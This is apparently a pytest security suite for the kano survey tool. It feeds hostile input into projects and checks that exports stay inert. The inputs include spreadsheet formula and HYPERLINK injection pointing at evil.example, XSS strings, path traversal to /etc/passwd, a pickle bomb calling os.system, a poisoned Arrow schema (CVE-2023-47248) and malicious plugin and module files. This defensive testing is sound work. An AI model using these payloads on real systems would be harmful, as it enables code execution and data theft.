"""Nothing let in: each rule has a test that tries to break it.

- CSV exports neutralise spreadsheet formulas (every exporter that writes CSV).
- HTML exports escape all user text (the report has the same structure whatever the text).
- Paths derived from data never leave the chosen directory (exports, stored responses).
- No project file is evaluated as code: kano.toml text, stored responses (pickled Arrow
  extension types, a pickle in place of a data file), modules in the project directory.
- Project-local plugins run only after an explicit, remembered trust decision.
- kano opens no network connection (the CLI and the TUI run under an audit hook).
"""

from __future__ import annotations

import csv
import hashlib
import html.parser
import io
import os
import pickle
import subprocess
import sys
import uuid
from collections import Counter
from pathlib import Path

import pyarrow as pa
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from pyarrow import feather

from kano_tui.engine.project.catalogue import add_feature
from kano_tui.engine.project.model import KpiPeriod, Touchpoint
from kano_tui.engine.project.projectfile import load_project
from kano_tui.exporters.safety import FORMULA_PREFIXES
from kano_tui.plugins.manager import build_plugins
from kano_tui.session.export import EXPORTS_DIR, default_destination
from kano_tui.session.workspace import Workspace
from tests.conftest import REPO
from tests.reliability.conftest import run_main, tree_digest

CANARY = f"kanocanary{uuid.uuid4().hex[:8]}"
EVIL_PLUGIN = """
from pathlib import Path
Path({marker!r}).write_text("project plugin ran")
"""
EXPORTERS = sorted(build_plugins().exporters)


def hostile_texts(marker: Path) -> list[str]:
    """User text that tries to become a formula, markup, a template, a path or code."""
    code = f"__import__('os').system('touch {marker}')"
    return [
        f'=HYPERLINK("http://evil.example/?{CANARY}","click")',
        f"+SUM(1+1) {CANARY}",
        f"-2+3 {CANARY}",
        f"@SUM(A1) {CANARY}",
        f"\t=1+1 {CANARY}",
        f"\r=1+1 {CANARY}",
        f"<script>alert('{CANARY}')</script>",
        f'"><img src=x onerror=alert(1)> {CANARY}',
        f"</style></title><svg onload=alert(1)> {CANARY}",
        f"{{{{7*7}}}} ${{7*7}} {CANARY}",
        f"[x](javascript:alert(1)) {CANARY}",
        f"{code} # {CANARY}",
        f"../../../etc/passwd {CANARY}",
        f"[bold red]{CANARY}[/]",
    ]


def build_hostile_project(directory: Path, marker: Path, benign: bool = False) -> Workspace:
    """A project whose every user-visible text is hostile (``benign``: the same project
    with harmless text, to compare structures with)."""
    texts = hostile_texts(marker)
    if benign:
        texts = [f"Plain text {n}" for n in range(len(texts))]
    workspace = Workspace.create(directory, texts[6] + " " + texts[0])
    project = workspace.project
    project.description = " ".join(texts)
    for number, text in enumerate(texts):
        if project.feature(text.strip()) is not None:  # "\t=1+1" and "\r=1+1", once trimmed
            text = f"{text} ({number})"  # two features of one name are refused
        add_feature(
            project,
            text,
            feature_id=f"f{number}",
            description=texts[-number - 1],
            tags=[texts[(number + 3) % len(texts)]],
        )
    stage = project.stages[0]
    stage.name = texts[8]
    project.touchpoints.append(
        Touchpoint(
            id="t1",
            stage=stage.id,
            name=texts[7],
            channel=texts[0],
            pain_points=[texts[1]],
            opportunities=[texts[9]],
            features=["f0"],
        )
    )
    project.kpi_periods.append(
        KpiPeriod(
            label=texts[2],
            customers_start=100,
            customers_end=95,
            customers_new=10,
            customers_new_by_referral=3,
            referrals_made=9,
        )
    )
    workspace.save()
    header = ["respondent", "wave", texts[3], "nps"]
    for number in range(len(texts)):
        header += [f"f{number}.functional", f"f{number}.dysfunctional"]
    rows = []
    for r in range(12):
        row = [
            f"{texts[r % len(texts)][:20]}-{r}",
            texts[(r % 2) * 4],
            texts[r % len(texts)],
            str(r % 11),
        ]
        row += [str(1 + (r + n) % 5) for n in range(2 * len(texts))]
        rows.append(row)
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\r\n").writerows([header, *rows])  # quotes a lone \r
    source = directory.parent / f"{directory.name}-survey.csv"
    source.write_text(buffer.getvalue(), encoding="utf-8")
    workspace.import_file(source)
    workspace.close()
    return workspace


@pytest.fixture
def hostile(tmp_path: Path) -> tuple[Path, Path]:
    marker = tmp_path / "PWNED"
    return build_hostile_project(tmp_path / "hostile", marker).directory, marker


def guarded(
    project: Path, *args: object, extra_env: dict | None = None, cwd: Path | None = None
) -> subprocess.CompletedProcess:
    """A `kano` command (or ``tui``) run under the audit hook of ``guarded.py``."""
    env = {**os.environ, "KANO_CANARY": CANARY, "PYTHONPATH": str(REPO), **(extra_env or {})}
    env.pop("NO_COLOR", None)
    mode = ["tui"] if args == ("tui",) else ["cli", *map(str, args)]
    return subprocess.run(
        [sys.executable, "-m", "tests.reliability.guarded", str(project), *mode],
        capture_output=True,
        text=True,
        cwd=cwd or REPO,
        env=env,
        timeout=600,
    )


def assert_clean(result: subprocess.CompletedProcess) -> None:
    assert result.returncode != 99, result.stderr[-2000:]  # a forbidden event
    assert result.returncode in (0, 1), result.stderr[-2000:]
    assert "Traceback" not in result.stderr, result.stderr[-2000:]


# --------------------------------------------------------------------------- CSV formulas


def _csv_outputs(project: Path, out: Path) -> dict[str, str]:
    """Every CSV kano writes for ``project``: CSV exporters and the CSV printouts."""
    found: dict[str, str] = {}
    plugins = build_plugins()
    for name in EXPORTERS:
        if plugins.exporters[name].extension.lower() not in (".csv", ".tsv"):
            continue
        target = out / f"{name}.csv"
        result = run_main("export", project, "-e", name, "-o", target)
        assert result.returncode == 0, result.stderr
        found[f"export {name}"] = target.read_text(encoding="utf-8")
    for args in (
        ["analyze", project, "--format", "csv"],
        ["analyze", project, "--format", "csv", "--by", "wave"],
        ["questionnaire", project, "--format", "csv"],
    ):
        result = run_main(*args)
        assert result.returncode == 0, result.stderr
        found[" ".join(map(str, args[::2]))] = result.stdout
    return found


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_no_csv_kano_writes_holds_a_live_spreadsheet_formula(hostile, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    project, _ = hostile
    outputs = _csv_outputs(project, tmp_path)
    assert {"export csv", "export questionnaire-csv"} <= set(outputs)
    neutralised = 0
    for label, text in outputs.items():
        for row in csv.reader(io.StringIO(text)):
            for cell in row:
                if cell.startswith(FORMULA_PREFIXES) and not _is_number(cell):
                    raise AssertionError(f"{label}: a live formula {cell!r}")
                neutralised += cell.startswith("'") and CANARY in cell
    assert neutralised >= 4, "the hostile names never reached the CSV files"


def test_an_imported_formula_stays_inert_in_every_export(hostile, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """Formulas arrive in survey cells too (attribute values, wave labels): exported
    with the responses, they are still text."""
    project, _ = hostile
    for name in EXPORTERS:
        target = tmp_path / f"{name}.out"
        result = run_main("export", project, "-e", name, "-o", target)
        assert result.returncode == 0, (name, result.stderr)
        for path in tmp_path.glob(f"{name}*"):
            if path.suffix in (".csv", ".tsv") or name.endswith("csv"):
                for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8"))):
                    live = [c for c in row if c.startswith(FORMULA_PREFIXES) and not _is_number(c)]
                    assert not live, (name, live)


# --------------------------------------------------------------------------- HTML


class _Structure(html.parser.HTMLParser):
    """The elements and attribute names of a document, without any text."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: Counter[str] = Counter()
        # A chart's elements depend on its layout (a label placed or not, a leader line):
        # counted apart, and only their kinds compared.
        self.svg_elements: Counter[str] = Counter()
        self.in_svg = 0
        self.handlers: list[str] = []

    def handle_endtag(self, tag: str) -> None:
        if tag == "svg":
            self.in_svg -= 1

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag == "svg":
            self.in_svg += 1
        (self.svg_elements if self.in_svg and tag != "svg" else self.elements)[tag] += 1
        self.handlers += [
            f"{tag} {name}"
            for name, value in attrs
            if name.startswith("on") or (value or "").strip().lower().startswith("javascript:")
        ]


def _structure(text: str) -> _Structure:
    parser = _Structure()
    parser.feed(text)
    return parser


def test_the_html_report_escapes_every_user_text(tmp_path: Path) -> None:
    marker = tmp_path / "PWNED"
    hostile = build_hostile_project(tmp_path / "hostile", marker)
    benign = build_hostile_project(tmp_path / "benign", marker, benign=True)
    pages = {}
    for workspace in (hostile, benign):
        target = tmp_path / f"{workspace.directory.name}.html"
        assert run_main("export", workspace.directory, "-e", "html", "-o", target).returncode == 0
        pages[workspace.directory.name] = target.read_text(encoding="utf-8")
    page = pages["hostile"]
    assert CANARY in page, "the hostile text never reached the report"
    for raw in ("<script>alert", "<img src=x", "<svg onload", "</style></title>"):
        assert raw not in page, f"unescaped user text in the report: {raw}"
    found, expected = _structure(page), _structure(pages["benign"])
    assert found.handlers == [] and expected.handlers == []
    # User text added no element: the hostile report has exactly the benign one's tags,
    # and its charts no kind of element that the benign charts lack.
    assert found.elements == expected.elements
    assert set(found.svg_elements) <= set(expected.svg_elements)


def test_the_mermaid_journey_cannot_be_given_extra_statements(tmp_path: Path) -> None:
    marker = tmp_path / "PWNED"
    hostile = build_hostile_project(tmp_path / "hostile", marker)
    hostile.project.stages[1].name = "A\n    click t1 call alert(1)\n%%{init: {}}%%"
    hostile.save()
    benign = build_hostile_project(tmp_path / "benign", marker, benign=True)
    lines = {}
    for workspace in (hostile, benign):
        target = tmp_path / f"{workspace.directory.name}.mmd"
        assert (
            run_main(
                "export", workspace.directory, "-e", "mermaid-journey", "-o", target
            ).returncode
            == 0
        )
        lines[workspace.directory.name] = target.read_text(encoding="utf-8").splitlines()

    def statements(text_lines: list[str]) -> list[str]:
        """Each line's kind: a keyword (journey, title, section) or a task."""
        return [
            line.split()[0] if line.split()[0] in ("journey", "title", "section") else "task"
            for line in text_lines
            if line.strip()
        ]

    assert statements(lines["hostile"]) == statements(lines["benign"])
    assert not any("%%" in line or line.split()[0] == "click" for line in lines["hostile"])


# --------------------------------------------------------------------------- paths


def _files(root: Path) -> set[Path]:
    return {p for p in root.rglob("*") if p.is_file()}


def test_exports_never_write_outside_the_chosen_place(hostile, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """Every exporter, to its default destination and to an explicit file: each file
    written lies in PROJECT/exports or beside the chosen file, whatever the names hold."""
    project, _ = hostile
    outside = tmp_path / "outside"
    outside.mkdir()
    # Loading the responses writes the project's own checksum cache (verified.py): once
    # before, so that only what the exports write is new.
    assert run_main("analyze", project).returncode == 0
    before = _files(tmp_path)
    chosen = tmp_path / "chosen"
    for name in EXPORTERS:
        assert run_main("export", project, "-e", name).returncode == 0, name
        result = run_main("export", project, "-e", name, "-o", chosen / f"{name}.out")
        assert result.returncode == 0, (name, result.stderr)
    new = _files(tmp_path) - before
    allowed = (project / EXPORTS_DIR, chosen)
    strays = [p for p in new if not any(p.is_relative_to(a) for a in allowed)]
    assert not strays, strays
    assert {p.parent for p in new} == set(allowed)


@settings(max_examples=200, deadline=None)
@given(
    name=st.text(max_size=60),
    exporter=st.text(max_size=30),
    extension=st.sampled_from([".csv", ".html", ".md", "/../../x", "\\..\\x", ""]),
)
def test_a_default_export_path_always_stays_in_the_exports_directory(
    name: str, exporter: str, extension: str
) -> None:
    directory = Path("/project")
    workspace = Workspace(directory, load_project_stub(name))
    target = default_destination(
        workspace, extension if extension.startswith(".") else "", exporter
    )
    assert target.parent == directory / EXPORTS_DIR
    assert ".." not in target.name.split("/") and "/" not in target.name


def load_project_stub(name: str):  # type: ignore[no-untyped-def]
    from kano_tui.engine.project.model import Project

    return Project.create(name)


@pytest.mark.parametrize(
    "import_id",
    ["../../../victim", "/tmp/victim", "..", "a/../../b", "responses/../../victim", ".hidden", ""],
)
def test_a_stored_data_path_from_kano_toml_cannot_leave_responses(
    import_id: str, tmp_path: Path, project_with_responses
) -> None:  # type: ignore[no-untyped-def]
    project = project_with_responses()
    victim = tmp_path / "victim.arrow"
    victim.write_bytes(b"precious")
    text = (project / "kano.toml").read_text()
    (project / "kano.toml").write_text(text.replace('id = "import-001"', f'id = "{import_id}"'))
    before = tree_digest(project)
    for args in (["analyze", project], ["imports", project, "--remove", import_id]):
        result = run_main(*args)
        assert result.returncode == 1, result.stderr
        assert "import id" in result.stderr and "responses/" in result.stderr, result.stderr
    assert victim.read_bytes() == b"precious"
    assert tree_digest(project) == before


# --------------------------------------------------------------------------- no code


def test_no_project_text_is_ever_evaluated_and_nothing_connects(hostile, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """Every command and the TUI on a project full of code-looking text and holding an
    untrusted plugin, under the audit hook: no compile of that text, no code from the
    project directory, no pickle, no subprocess, no socket; the marker never appears."""
    project, marker = hostile
    (project / "plugins").mkdir()  # and an untrusted project plugin: opening must not run it
    (project / "plugins" / "evil.py").write_text(EVIL_PLUGIN.format(marker=str(marker)))
    second = tmp_path / "wave.csv"
    second.write_text("respondent,f0.functional,f0.dysfunctional\nnew-1,1,5\n")
    commands = [
        ["analyze", project],
        ["analyze", project, "--format", "json", "--by", "wave"],
        ["backlog", project],
        ["questionnaire", project],
        ["imports", project],
        ["features", "list", project],
        ["plugins", "list", project],
        ["import", project, second],
        *[["export", project, "-e", name] for name in EXPORTERS],
    ]
    batch = [arg for command in commands for arg in ("--next", *command)][1:]
    result = guarded(project, *batch)
    assert_clean(result)
    assert result.stderr.count("guarded: exit 0") == len(commands), result.stderr[-3000:]
    assert_clean(guarded(project, "tui"))
    assert not marker.exists()


def _pickle_bomb(marker: Path) -> bytes:
    class Bomb:
        def __reduce__(self):  # type: ignore[no-untyped-def]
            return (os.system, (f"touch {marker}",))

    return pickle.dumps(Bomb())


def test_stored_responses_are_never_unpickled(tmp_path: Path, project_with_responses) -> None:  # type: ignore[no-untyped-def]
    """A data file whose Arrow schema claims a pickled Python extension type (the
    CVE-2023-47248 vector), or a pickle renamed to the data file, is refused, not run."""
    marker = tmp_path / "PWNED"
    bomb = _pickle_bomb(marker)
    project = project_with_responses()
    data = next((project / "responses").iterdir())
    table = feather.read_table(data)
    field = pa.field(
        "camera.extra",
        pa.binary(),
        metadata={
            b"ARROW:extension:name": b"arrow.py_extension_type",
            b"ARROW:extension:metadata": bomb,
        },
    )
    poisoned = table.append_column(field, pa.array([b"x"] * table.num_rows, pa.binary()))
    poisoned = poisoned.replace_schema_metadata({b"pandas": bomb})
    feather.write_feather(poisoned, data)
    # An attacker who can write the data file can write kano.toml too: record its
    # checksum, so that the Arrow reader itself is what meets the poisoned schema.
    recorded = project / "kano.toml"
    record = load_project(project).imports[0]
    recorded.write_text(
        recorded.read_text().replace(
            record.data_sha256, hashlib.sha256(data.read_bytes()).hexdigest()
        )
    )
    assert_clean(
        guarded(project, "analyze", project, "--next", "export", project, "-e", "responses-json")
    )
    data.write_bytes(bomb)
    result = guarded(project, "analyze", project)
    assert_clean(result)
    assert result.returncode == 1 and "damaged" in result.stderr
    assert not marker.exists()


def test_modules_in_the_project_directory_never_shadow_kanos(
    tmp_path: Path, project_with_responses
) -> None:  # type: ignore[no-untyped-def]
    """`kano` run from inside a project that holds click.py, pandas.py, json.py: the
    console script imports the real ones."""
    marker = tmp_path / "PWNED"
    project = project_with_responses()
    for module in ("click", "pandas", "json", "tomllib", "kano_tui", "sitecustomize"):
        (project / f"{module}.py").write_text(f"open({str(marker)!r}, 'w').write('{module}')\n")
    kano = Path(sys.executable).parent / "kano"
    result = subprocess.run(
        [str(kano), "analyze", "."], cwd=project, capture_output=True, text=True, timeout=300
    )
    assert result.returncode == 0, result.stderr
    assert not marker.exists(), marker.read_text()


# --------------------------------------------------------------------------- plugins


def test_a_project_plugin_runs_only_after_explicit_trust(
    tmp_path: Path, project_with_responses
) -> None:  # type: ignore[no-untyped-def]
    marker = tmp_path / "PWNED"
    project = project_with_responses()
    (project / "plugins").mkdir()
    (project / "plugins" / "evil.py").write_text(EVIL_PLUGIN.format(marker=str(marker)))
    # Running a file of the project would stop the guard with exit code 99.
    assert_clean(
        guarded(
            project,
            "analyze",
            project,
            "--next",
            "plugins",
            "list",
            project,
            "--next",
            "features",
            "list",
            project,
            "--next",
            "export",
            project,
            "-e",
            "json",
        )
    )
    assert not marker.exists()  # (the TUI is opened on such a project above)
    listed = run_main("plugins", "list", project)
    assert "evil" in listed.stdout + listed.stderr and "not trusted" in listed.stderr

    assert run_main("plugins", "trust", project, "--yes").returncode == 0
    assert run_main("analyze", project).returncode == 0
    assert marker.read_text() == "project plugin ran"  # trusted: it runs (the test can see)

    marker.unlink()
    with open(project / "plugins" / "evil.py", "a") as handle:  # changed after trusting
        handle.write("# one more line\n")
    assert run_main("analyze", project).returncode == 0
    assert not marker.exists()


# --------------------------------------------------------------------------- the guard


def test_the_guard_itself_catches_a_connection(tmp_path: Path, project_with_responses) -> None:  # type: ignore[no-untyped-def]
    """Proof that the audit hook would see a connection: a plugin given with --plugin
    that connects is stopped with the guard's exit code."""
    project = project_with_responses()
    plugin = tmp_path / "phone_home.py"
    plugin.write_text(
        "import socket\ntry:\n    socket.create_connection(('127.0.0.1', 9), 1)\n"
        "except OSError:\n    pass\n"
    )
    result = guarded(project, "--plugin", plugin, "analyze", project)
    assert result.returncode == 99 and "FORBIDDEN socket" in result.stderr, result.stderr


def test_the_guard_itself_catches_evaluated_project_text(project_with_responses) -> None:  # type: ignore[no-untyped-def]
    """Proof that the hook would see project text being evaluated: a process that
    eval()s the project's name (holding the canary) is stopped."""
    project = project_with_responses()
    text = (project / "kano.toml").read_text()
    (project / "kano.toml").write_text(text.replace('name = "project"', f'name = "{CANARY}"'))
    code = "\n".join(
        [
            "import sys, tomllib",
            f"sys.argv = ['guarded', {str(project)!r}, 'cli']",
            "from tests.reliability import guarded",
            "sys.addaudithook(guarded.hook)",
            f"name = tomllib.loads(open({str(project / 'kano.toml')!r}).read())['project']['name']",
            "eval(repr(name))",
        ]
    )
    env = {**os.environ, "KANO_CANARY": CANARY, "PYTHONPATH": str(REPO)}
    result = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, cwd=REPO, env=env
    )
    assert result.returncode == 99 and "FORBIDDEN compile" in result.stderr, result.stderr
